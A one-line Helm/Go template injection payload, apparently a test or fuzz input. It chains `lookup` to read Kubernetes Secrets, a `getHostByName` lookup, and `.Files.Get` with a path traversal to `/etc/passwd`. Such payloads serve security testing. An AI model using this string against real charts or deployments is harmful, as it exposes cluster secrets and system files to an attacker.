[{{ lookup "v1" "Secret" "" "" }}{{ getHostByName "localhost" }}{{ .Files.Get "../../../../../../etc/passwd" }}]
